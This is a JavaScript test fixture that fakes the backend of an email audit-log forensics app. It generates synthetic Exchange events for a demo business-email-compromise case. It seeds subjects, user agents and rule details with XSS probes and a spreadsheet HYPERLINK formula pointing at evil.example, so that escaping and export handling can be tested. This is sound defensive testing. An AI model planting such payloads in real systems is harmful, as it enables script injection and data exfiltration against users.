// An in-test stand-in for the Rust side: same commands, same shapes (see src/lib/bindings.ts),
// deterministic generated events, a toy query parser, and keyset pagination.

import { workspaceCommand } from "./fake-workspace.mjs";
import { timelineCommand } from "./fake-timeline.mjs";

export const XSS_IMG = "<img src=x onerror=alert(1)>";
export const XSS_FORMULA = '=HYPERLINK("http://evil.example/steal","Click to view")';

function mulberry32(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const ACTIONS = [
  ["logon", "UserLoggedIn", 6],
  ["logon-failed", "UserLoginFailed", 2],
  ["read", "MailItemsAccessed", 30],
  ["sync", "MailItemsAccessed", 8],
  ["search", "SearchQueryInitiatedExchange", 6],
  ["send", "Send", 6],
  ["reply", "Send", 2],
  ["forward", "Send", 2],
  ["delete", "SoftDelete", 4],
  ["move", "MoveToDeletedItems", 3],
  ["attachment", "AttachmentAccess", 2],
  ["delivery", "MessageDelivered", 4],
  ["rule", "New-InboxRule", 1],
  ["forwarding", "Set-Mailbox", 1],
  ["permission", "Add-MailboxPermission", 1],
  ["consent", "Consent to application.", 1],
  ["admin", "Set-OrganizationConfig", 1],
  ["other", "Update", 1],
];
const ACTION_WEIGHT = ACTIONS.reduce((s, a) => s + a[2], 0);
const ACTORS = ["alice@contoso.example", "bob@contoso.example", "ap@contoso.example", "ceo@contoso.example"];
const IPS = ["203.0.113.50", "198.51.100.7", "2001:db8::1", "192.0.2.10", "203.0.113.77"];
const APPS = ["OWA", "Outlook", "REST", "Exchange ActiveSync", null];
const AGENTS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
  "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17126; Pro)",
  XSS_IMG,
  "python-requests/2.31",
];
const SUBJECTS = [
  "Invoice overdue",
  "Re: wire transfer details",
  "Q4 payroll",
  XSS_IMG,
  XSS_FORMULA,
  "<script>alert(2)</script>",
  '"><svg onload=alert(3)>',
  "Board meeting notes",
  "Your password expires today",
  null,
];
const FOLDERS = ["Inbox", "Sent Items", "Deleted Items", "Inbox/Archive", "RSS Subscriptions", null];

export const BASE_ID = 1_000_000_000_000_000_000n; // > 2^53: ids must stay strings

function pick(rnd, arr) {
  return arr[Math.floor(rnd() * arr.length)];
}

/** Generates `n` events starting at `startMs`, ids from `idBase`. */
export function generateEvents(n, { seed = 42, startMs = Date.UTC(2025, 11, 1, 8, 0, 0, 0), idBase = BASE_ID, acquisitionId = 1 } = {}) {
  const rnd = mulberry32(seed);
  const events = [];
  let t = startMs;
  for (let i = 0; i < n; i++) {
    // Some identical timestamps, so the sort needs the id as a tie-breaker.
    t += rnd() < 0.1 ? 0 : Math.floor(rnd() * 60_000);
    let w = rnd() * ACTION_WEIGHT;
    let a = ACTIONS[0];
    for (const x of ACTIONS) {
      w -= x[2];
      if (w <= 0) {
        a = x;
        break;
      }
    }
    const [action, operation] = a;
    const actor = pick(rnd, ACTORS);
    const ip = pick(rnd, IPS);
    void rnd(); // (was an id offset; kept so the sequence of random values is unchanged)
    // Ids are real time keys, as the engine makes them: ((ms − 2000-01-01) << 20) | sequence.
    const seq = BigInt(i) + ((idBase - BASE_ID) / BASE_ID) * 300_000n;
    const id = (((BigInt(t) - 946_684_800_000n) << 20n) | seq).toString();
    const subject = ["read", "send", "reply", "forward", "delete", "move", "delivery", "attachment"].includes(action) ? pick(rnd, SUBJECTS) : null;
    const row = {
      id,
      time: new Date(t).toISOString(),
      time_ms: t,
      source: "ual",
      workload: "Exchange",
      record_type: action.startsWith("logon") ? "AzureActiveDirectoryStsLogon" : "ExchangeItem",
      operation,
      action,
      actor,
      mailbox: rnd() < 0.8 ? actor : pick(rnd, ACTORS),
      client_ip: ip,
      client_port: rnd() < 0.5 ? 443 : null,
      client_app: pick(rnd, APPS),
      user_agent: pick(rnd, AGENTS),
      app_id: rnd() < 0.3 ? "00000002-0000-0ff1-ce00-000000000000" : null,
      session_id: `sess-${Math.floor(rnd() * 40)}`,
      result: action === "logon-failed" ? "Failed" : "Succeeded",
      subject,
      folders: subject === null ? null : pick(rnd, FOLDERS),
      item_count: action === "read" || action === "sync" ? 1 + Math.floor(rnd() * 20) : null,
      object: action === "rule" ? "Move to RSS " + XSS_IMG : null,
    };
    const rec = {
      CreationTime: row.time.replace("Z", ""),
      Id: `rec-${i}`,
      Operation: operation,
      UserId: actor,
      ClientIPAddress: ip,
      ClientInfoString: row.user_agent,
      Subject: subject,
    };
    events.push({ row, rec, dup: i % 97 === 5, acquisitionId, line: i + 1 });
  }
  return events;
}

function cmpAsc(a, b) {
  if (a.time_ms !== b.time_ms) return a.time_ms - b.time_ms;
  const x = BigInt(a.id);
  const y = BigInt(b.id);
  return x < y ? -1 : x > y ? 1 : 0;
}

const FIELDS = {
  actor: (r) => [r.actor],
  user: (r) => [r.actor],
  mailbox: (r) => [r.mailbox],
  op: (r) => [r.operation],
  action: (r) => [r.action],
  ip: (r) => [r.client_ip],
  app: (r) => [r.client_app, r.user_agent],
  session: (r) => [r.session_id],
  msgid: () => [],
  folder: (r) => [r.folders],
  source: (r) => [r.source],
  subject: (r) => [r.subject],
};
const ALL_TEXT = (r) => [r.actor, r.mailbox, r.operation, r.action, r.client_ip, r.client_app, r.user_agent, r.subject, r.folders, r.object, r.session_id];

class QueryError extends Error {}

/** Row i of a huge synthetic case (rows are made on demand, never stored). */
export function virtualRow(i) {
  const t = Date.UTC(2024, 0, 1) + i * 1000;
  return {
    id: (BASE_ID * 3n + BigInt(i)).toString(), time: new Date(t).toISOString(), time_ms: t, source: "ual",
    workload: "Exchange", record_type: "ExchangeItem", operation: "MailItemsAccessed", action: i % 5 === 0 ? "sync" : "read",
    actor: `user${i % 97}@contoso.example`, mailbox: `user${i % 97}@contoso.example`, client_ip: "203.0.113.50",
    client_port: null, client_app: "OWA", user_agent: null, app_id: null, session_id: null, result: "Succeeded",
    subject: `Row ${i}`, folders: "Inbox", item_count: 1, object: null,
  };
}

function tokenize(q) {
  const out = [];
  let i = 0;
  while (i < q.length) {
    if (/\s/.test(q[i])) {
      i++;
      continue;
    }
    let tok = "";
    while (i < q.length && !/\s/.test(q[i])) {
      if (q[i] === '"') {
        const end = q.indexOf('"', i + 1);
        if (end < 0) throw new QueryError('A phrase is missing its closing quote ("). Add one after the phrase.');
        tok += q.slice(i, end + 1);
        i = end + 1;
      } else tok += q[i++];
    }
    out.push(tok);
  }
  return out;
}

function termPredicate(tok, ctx) {
  let neg = false;
  if (tok.startsWith("-") && tok.length > 1) {
    neg = true;
    tok = tok.slice(1);
  }
  const m = /^([a-z]+):(.*)$/i.exec(tok);
  let pred;
  if (m && !m[0].startsWith('"')) {
    const field = m[1].toLowerCase();
    const value = m[2].replace(/^"|"$/g, "").toLowerCase();
    if (value === "") throw new QueryError(`“${field}:” needs a value after the colon, for example ${field}:something.`);
    if (field === "after" || field === "before") {
      const ms = Date.parse(value.length <= 10 ? value + "T00:00:00Z" : value.endsWith("z") ? value : value + "Z");
      if (Number.isNaN(ms)) throw new QueryError(`“${m[2]}” is not a date. Write dates like 2024-01-01 or 2024-01-02T10:00.`);
      pred = field === "after" ? (r) => r.time_ms >= ms : (r) => r.time_ms < ms;
    } else if (ctx?.fields?.[field]) {
      pred = ctx.fields[field](value);
    } else if (FIELDS[field]) {
      pred = (r) => FIELDS[field](r).some((v) => v != null && v.toLowerCase().includes(value));
    } else {
      throw new QueryError(`Unknown field “${m[1]}:”. Use one of: ${Object.keys(FIELDS).join(", ")}, after, before.`);
    }
  } else {
    const value = tok.replace(/^"|"$/g, "").toLowerCase();
    pred = (r) => ALL_TEXT(r).some((v) => v != null && v.toLowerCase().includes(value));
  }
  return neg ? (r) => !pred(r) : pred;
}

/** `ctx.fields` adds fields that need the case's state (tag:, is:, has:, workload:): name → value → predicate. */
export function parseQuery(q, ctx) {
  const toks = tokenize(q);
  const groups = []; // AND of ORs
  for (let i = 0; i < toks.length; i++) {
    const t = toks[i];
    if (t === "OR") {
      if (groups.length === 0 || i === toks.length - 1) throw new QueryError("OR needs a term on both sides, for example action:forward OR action:rule.");
      const next = toks[++i];
      groups[groups.length - 1].push(termPredicate(next, ctx));
    } else groups.push([termPredicate(t, ctx)]);
  }
  return (r) => groups.every((g) => g.some((p) => p(r)));
}

export class FakeBackend {
  constructor({ events, appInfo = {}, cases = {} } = {}) {
    this.calls = [];
    this.pageLog = [];
    this.emit = async () => {};
    this.dialogOpen = null;
    this.dialogSave = null;
    this.importGate = null;
    /** `(cmd, args) => promise | undefined`: a promise to wait for before answering (a slow command). */
    this.gate = null;
    this.cancelRequested = false;
    this.current = null;
    this.sortedCache = new Map();
    this.cases = {
      "/cases/demo.tidemark": { name: "Contoso BEC (demo)", events: events ?? generateEvents(5000) },
      "/cases/empty.tidemark": { name: "Fabrikam – new case", events: [] },
      ...cases,
    };
    this.appInfo = {
      version: "0.1.0",
      demo_case: "/cases/demo.tidemark",
      initial_case: null,
      recent: [
        { path: "/cases/demo.tidemark", name: "Contoso BEC (demo)", events: 5000, last_opened: "2025-12-04T09:12:00.000Z", exists: true },
        { path: "/cases/newer.tidemark", name: "Northwind payroll fraud", events: 120431, last_opened: "2025-11-20T16:40:00.000Z", exists: true },
        { path: "/cases/empty.tidemark", name: "Fabrikam – new case", events: 0, last_opened: "2025-11-02T10:05:00.000Z", exists: true },
        { path: "/media/usb/old.tidemark", name: "Old USB case", events: 877, last_opened: "2025-06-30T07:00:00.000Z", exists: false },
      ],
      ...appInfo,
    };
  }

  err(code, message, detail = null) {
    return { error: { code, message, detail } };
  }

  summary() {
    const c = this.current;
    if (c.virtual) {
      return { path: c.path, name: c.name, created_at: "2025-12-04T09:00:00.000Z", tool_version: "0.1.0", display_time_zone: "UTC",
        events: c.virtual, raw_records: c.virtual, malformed: 0, duplicates: 0, first_time: virtualRow(0).time,
        last_time: virtualRow(c.virtual - 1).time, acquisitions: [] };
    }
    const evs = c.events;
    const times = evs.map((e) => e.row.time_ms);
    return {
      path: c.path,
      name: c.name,
      created_at: "2025-12-04T09:00:00.000Z",
      tool_version: "0.1.0",
      display_time_zone: "UTC",
      events: evs.length,
      raw_records: evs.length + evs.filter((e) => e.dup).length,
      malformed: 0,
      duplicates: evs.filter((e) => e.dup).length,
      first_time: evs.length ? new Date(Math.min(...times)).toISOString() : null,
      last_time: evs.length ? new Date(Math.max(...times)).toISOString() : null,
      acquisitions: [],
    };
  }

  /** All matching rows in order (cached per query+sort). */
  sorted(query, sort) {
    const key = `${this.current?.path}\u0000${query}\u0000${sort}`;
    let rows = this.sortedCache.get(key);
    if (!rows) {
      const pred = parseQuery(query, this.queryContext?.());
      rows = this.current.events.map((e) => e.row).filter(pred).sort(cmpAsc);
      if (sort === "desc") rows.reverse();
      this.sortedCache.set(key, rows);
    }
    return rows;
  }

  async handle(cmd, args) {
    this.calls.push({ cmd, args });
    try {
      const wait = this.gate?.(cmd, args);
      if (wait) await wait;
      return await this.dispatch(cmd, args);
    } catch (e) {
      if (e instanceof QueryError) return this.err("query.invalid", e.message, null);
      return this.err("internal", "The fake backend failed.", String(e?.stack ?? e));
    }
  }

  /**
   * What the engine would read: a path ending in .zip holds two members, a path ending in / is a
   * folder with two files, anything else is one file.
   */
  static expand(paths) {
    const inputs = [];
    for (const p of paths) {
      if (p.endsWith(".zip")) {
        for (const m of ["Audit/2025-12-01.json", "Audit/2025-12-02.csv"]) inputs.push({ display: `${p} › ${m}`, container: p, name: m });
      } else if (p.endsWith("/")) {
        for (const m of ["mailbox-a.jsonl", "mailbox-b.jsonl"]) inputs.push({ display: `${p}${m}`, container: null, name: m });
      } else if (p.endsWith(".gz")) {
        inputs.push({ display: `${p} (gzip)`, container: p, name: p });
      } else {
        inputs.push({ display: p, container: null, name: p });
      }
    }
    return inputs;
  }

  static formatOf(name) {
    if (/\.csv$/i.test(name)) return ["purview-csv", "Purview audit search CSV", "utf-16le"];
    if (/\.json$/i.test(name)) return ["mgmt-blob", "Audit records, JSON array (Management Activity API content blob)", "utf-8"];
    return ["ual-jsonl", "Unified Audit Log JSONL", "utf-8-bom"];
  }

  async importFiles(paths) {
    if (!this.current) return this.err("case.none_open", "No case is open.");
    this.cancelRequested = false;
    const inputs = FakeBackend.expand(paths);
    const skipped = paths.filter((p) => p.endsWith("/")).map((p) => ({ path: `${p}README.txt`, reason: `not audit data: no known export format starts like this (${XSS_IMG})` }));
    const per = 4_000_000;
    const total = inputs.length * per;
    for (let f = 0; f < inputs.length; f++) {
      const records = f * 400 + 150;
      await this.emit("import-progress", {
        files_done: f,
        files_total: inputs.length,
        current_file: inputs[f].display,
        bytes_done: f * per + 1_500_000,
        bytes_total: total,
        records,
        elapsed_ms: 1_000 + f * 2_000,
        records_per_s: 41_234.6,
        eta_ms: 125_000 - f * 10_000,
      });
    }
    if (this.importGate) await this.importGate;
    const added = generateEvents(1200, { seed: 7, startMs: Date.UTC(2025, 11, 5, 6, 0), idBase: BASE_ID * 2n, acquisitionId: 2 });
    if (this.cancelRequested) {
      this.current.events = [...this.current.events, ...added.slice(0, 150)];
      this.cases[this.current.path].events = this.current.events;
      this.sortedCache.clear();
      return this.err(
        "import.cancelled",
        "The import was stopped. The 150 records read before that are kept; import the same files again to add the rest (records already in the case are recognised).",
      );
    }
    this.current.events = [...this.current.events, ...added];
    this.cases[this.current.path].events = this.current.events;
    this.sortedCache.clear();
    await this.emit("import-progress", {
      files_done: inputs.length, files_total: inputs.length, current_file: inputs.at(-1).display, bytes_done: total, bytes_total: total,
      records: 1205, elapsed_ms: 3_412, records_per_s: 353, eta_ms: 0,
    });
    // 1,205 records: the first file has the 3 duplicates and 2 malformed records, the new events are spread over all.
    const n = inputs.length;
    const files = inputs.map((inp, i) => {
      const [format, format_name, encoding] = FakeBackend.formatOf(inp.name);
      const fresh = Math.floor(1200 / n) + (i < 1200 % n ? 1 : 0);
      const extra = i === 0 ? 5 : 0;
      return {
        path: inp.display,
        size: per,
        sha256: (i.toString(16).padStart(2, "0") + "ab").repeat(16),
        format,
        format_name,
        encoding,
        container: inp.container,
        records: fresh + extra,
        new_events: fresh,
        duplicates: i === 0 ? 3 : 0,
        malformed: i === 0 ? 2 : 0,
        malformed_at: i === 0 ? ["line 17: line is not valid JSON (unexpected end of input at column 211)", `line 903: record has no CreationTime; Subject was ${XSS_IMG}`] : [],
        first_time: new Date(Date.UTC(2025, 11, 5, 6, 0) + i * 3_600_000).toISOString(),
        last_time: new Date(Date.UTC(2025, 11, 5, 6, 59) + i * 3_600_000).toISOString(),
      };
    });
    return {
      ok: {
        acquisition_id: 2,
        files,
        read: 1205,
        new_events: 1200,
        duplicates: 3,
        malformed: 2,
        malformed_samples: [
          { locator: `${inputs[0].display}:17`, error: "line is not valid JSON (unexpected end of input at column 211)" },
          { locator: `${inputs[0].display}:903`, error: `record has no CreationTime; Subject was ${XSS_IMG}` },
        ],
        skipped,
        elapsed_ms: 3_412,
        worker_busy_ms: 2_100,
        writer_busy_ms: 2_900,
        context_busy_ms: 120,
      },
    };
  }

  async dispatch(cmd, args) {
    const timeline = timelineCommand(this, cmd, args);
    if (timeline) return timeline;
    switch (cmd) {
      case "app_info":
        return { ok: this.appInfo };
      case "case_open":
      case "case_create": {
        const p = args.path;
        if (p === "/cases/newer.tidemark")
          return this.err(
            "case.newer_schema",
            "This case was made by a newer Tidemark (case format 7). This Tidemark reads case formats up to 3.",
            "schema_version 7 > supported 3 in /cases/newer.tidemark",
          );
        if (cmd === "case_create") {
          if (this.cases[p]) return this.err("case.exists", "A file with this name already exists.", p);
          this.cases[p] = { name: args.name, events: [] };
        }
        const c = this.cases[p];
        if (!c) return this.err("case.not_found", `There is no file at ${p}.`, null);
        this.current = { path: p, ...c };
        this.sortedCache.clear();
        return { ok: this.summary() };
      }
      case "case_summary":
        if (!this.current) return this.err("case.none_open", "No case is open.");
        return { ok: this.summary() };
      case "case_close":
        this.current = null;
        return { ok: null };
      case "search_count": {
        if (!this.current) return this.err("case.none_open", "No case is open.");
        if (this.current.virtual) {
          const n = this.current.virtual;
          return { ok: { matching: n, total: n, first_time: virtualRow(0).time, last_time: virtualRow(n - 1).time } };
        }
        const rows = this.sorted(args.query, "asc");
        return {
          ok: {
            matching: rows.length,
            total: this.current.events.length,
            first_time: rows.length ? rows[0].time : null,
            last_time: rows.length ? rows[rows.length - 1].time : null,
          },
        };
      }
      case "search_page": {
        if (!this.current) return this.err("case.none_open", "No case is open.");
        const { query, sort, after, limit } = args;
        if (!(limit > 0 && limit <= 1000)) return this.err("internal", "limit out of range", String(limit));
        if (this.current.virtual) {
          const n = this.current.virtual;
          const start = after === null ? 0 : Number(after.slice(2)) + 1;
          const end = Math.min(n, start + limit);
          const page = [];
          for (let i = start; i < end; i++) page.push(virtualRow(i));
          const next = end < n ? `v|${end - 1}` : null;
          this.pageLog.push({ query, sort, after, limit, start, n: page.length, next });
          return { ok: { rows: page, next } };
        }
        const rows = this.sorted(query, sort);
        let start = 0;
        if (after !== null) {
          const [ms, id] = after.split("|");
          start = rows.findIndex((r) => r.time_ms === Number(ms) && r.id === id) + 1;
          if (start === 0) return this.err("internal", "bad cursor", after);
        }
        const page = rows.slice(start, start + limit);
        const last = page[page.length - 1];
        const next = start + limit < rows.length && last ? `${last.time_ms}|${last.id}` : null;
        this.pageLog.push({ query, sort, after, limit, start, n: page.length, next });
        return { ok: { rows: page, next } };
      }
      case "accounts":
        return { ok: this.accountList ?? [] };
      case "account_sessions":
        return { ok: this.accountSessions?.[args.account] ?? [] };
      case "ip_card":
        // Tests put cards in `ipCards` (address → IpCard); other addresses have none, like a case
        // whose events do not come from them.
        return { ok: this.ipCards?.[args.ip] ?? null };
      case "event_detail": {
        const e = this.current?.events.find((x) => x.row.id === args.id);
        if (!e) return this.err("event.not_found", "This event is not in the open case.", args.id);
        const occ = (n) => ({
          raw_id: Number(BigInt(e.row.id) % 1000000n) * 10 + n,
          acquisition_id: e.acquisitionId + n,
          source_format: "ual-jsonl",
          locator: `audit-2025-12-0${1 + n}.jsonl:${e.line}`,
          sha256: "9f2c4e1b7a8d6f5e3c2b1a0f9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d",
          size: JSON.stringify(e.rec).length,
          received_at: "2025-12-04T09:1" + n + ":00.000Z",
          text: JSON.stringify(e.rec, null, 2),
          verbatim: JSON.stringify(e.rec),
        });
        return {
          ok: {
            event: e.row,
            record_key: `ual:${e.rec.Id}`,
            internet_message_ids: e.row.subject ? [`<${e.row.id}@mail.contoso.example>`] : [],
            details:
              e.row.action === "rule"
                ? JSON.stringify({ RuleName: XSS_IMG, MoveToFolder: "RSS Subscriptions", ForwardTo: "drop@evil.example" }, null, 2)
                : "{}",
            raw: e.dup ? [occ(0), occ(1)] : [occ(0)],
          },
        };
      }
      case "import_files":
        return this.importFiles(args.paths);
      case "import_cancel":
        this.cancelRequested = true;
        return { ok: null };
      case "reveal_in_folder": {
        // The app opens the file manager at the file; here it only notes the path. Paths listed in
        // `revealMissing` were moved or deleted meanwhile (the app's answer, word for word).
        (this.revealed ??= []).push(args.path);
        if ((this.revealMissing ?? []).includes(args.path))
          return this.err("io", `${args.path} is not there any more (moved or deleted), so it cannot be shown.`);
        return { ok: null };
      }
      case "plugin:dialog|open":
        return { ok: typeof this.dialogOpen === "function" ? this.dialogOpen(args) : this.dialogOpen };
      case "plugin:dialog|save":
        return { ok: typeof this.dialogSave === "function" ? this.dialogSave(args) : this.dialogSave };
      default: {
        const ws = await workspaceCommand(this, cmd, args);
        if (ws !== undefined) return ws;
        return this.err("internal", `The fake backend does not know the command ${cmd}.`, null);
      }
    }
  }
}
